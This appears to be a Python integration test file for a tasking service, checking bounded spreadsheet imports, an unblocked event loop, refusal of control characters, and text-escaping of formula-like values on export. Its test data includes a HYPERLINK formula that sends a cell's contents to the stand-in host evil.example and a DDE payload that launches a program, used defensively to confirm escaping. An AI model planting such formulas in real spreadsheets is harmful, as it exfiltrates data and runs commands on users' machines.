"""Issue 8 against the running tasking service: imports off the event loop and bounded, text fields
without control characters, and ledgers whose cells are text, never formulas."""

from __future__ import annotations

import asyncio
import io
import time
from datetime import date
from typing import Any

import httpx
from fastapi import FastAPI
from openpyxl import Workbook, load_workbook

from luoshi_tasking.spreadsheets.xlsx import XLSX_MEDIA_TYPE

from ..unit.test_xlsx_guard import inflated_workbook
from .conftest import CITY, COUNTY, count_rows, person

OFFICE = person(CITY, "office")
IMPORT = "/api/v1/tasks/import"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
Y = date.today().year + 1


def _upload(data: bytes) -> dict[str, Any]:
    return {"file": ("tasks.xlsx", data, XLSX_MEDIA_TYPE)}


def _slow_workbook(rows: int = 5000) -> bytes:
    """Many rows that all fail validation: parsing is all the work (no database writes follow)."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("任务清单")
    ws.append(
        ["任务名称", "任务内容", "来源", "类别", "牵头单位代码", "协办单位代码", "完成时限", "工作措施"]
    )
    for n in range(rows):
        ws.append([f"任务{n}", "内容" * 20, "来源", "类别", "not-a-code", "x、y", "not-a-date", "措施" * 20])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


async def test_inflated_workbook_is_refused_fast_with_413(tasking: tuple[FastAPI, httpx.AsyncClient]) -> None:
    app, client = tasking
    from luoshi_tasking.tasks.models import Task

    start = time.perf_counter()
    response = await client.post(IMPORT, files=_upload(inflated_workbook()), headers=OFFICE)
    assert time.perf_counter() - start < 2.0  # the report measured 18 s
    assert response.status_code == 413, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert response.json()["type"] == "urn:luoshi:problem:import-too-large"
    assert (await count_rows(app, Task))["task"] == 0


async def test_healthz_answers_while_an_import_is_parsed(tasking: tuple[FastAPI, httpx.AsyncClient]) -> None:
    _, client = tasking
    data = _slow_workbook()
    import_task = asyncio.create_task(client.post(IMPORT, files=_upload(data), headers=OFFICE))
    await asyncio.sleep(0.05)
    latencies: list[float] = []
    while not import_task.done():
        start = time.perf_counter()
        assert (await client.get("/healthz")).status_code == 200
        latencies.append(time.perf_counter() - start)
        await asyncio.sleep(0.02)
    response = await import_task
    assert response.status_code == 422, response.text  # every row refused, nothing written
    # Parsed on the event loop, the import held every other request until it was done.
    assert len(latencies) >= 5, latencies
    assert max(latencies) < 0.5, latencies


async def test_control_characters_in_a_title_are_refused(tasking: tuple[FastAPI, httpx.AsyncClient]) -> None:
    app, client = tasking
    from luoshi_tasking.tasks.models import Task

    task = {"title": "a\u0000b", "lead_unit": COUNTY, "deadline": f"{Y}-06-30"}
    response = await client.post("/api/v1/tasks", json=task, headers=OFFICE)
    assert response.status_code == 422, response.text
    errors = response.json()["errors"]
    assert errors[0]["loc"][-1] == "title" and errors[0]["type"] == "control_character"
    assert (await count_rows(app, Task))["task"] == 0
    # Prose keeps its line breaks and tabs.
    multiline = {**task, "title": "正常标题", "description": "第一条\n\t第二条\r\n"}
    assert (await client.post("/api/v1/tasks", json=multiline, headers=OFFICE)).status_code == 201


async def test_a_formula_title_is_exported_as_text(tasking: tuple[FastAPI, httpx.AsyncClient]) -> None:
    _, client = tasking
    task = {"title": EVIL, "lead_unit": COUNTY, "deadline": f"{Y}-06-30", "measures": "+cmd|' /C calc'!A0"}
    assert (await client.post("/api/v1/tasks", json=task, headers=OFFICE)).status_code == 201
    exported = await client.get("/api/v1/tasks/export", params={"org": CITY}, headers=OFFICE)
    assert exported.status_code == 200, exported.text
    ws = load_workbook(io.BytesIO(exported.content)).active
    assert ws is not None
    headers = [c.value for c in ws[2]]
    title = ws.cell(row=3, column=headers.index("任务名称") + 1)
    measures = ws.cell(row=3, column=headers.index("工作措施") + 1)
    assert title.data_type == "s" and title.value == f"'{EVIL}"
    assert measures.data_type == "s" and str(measures.value).startswith("'+")
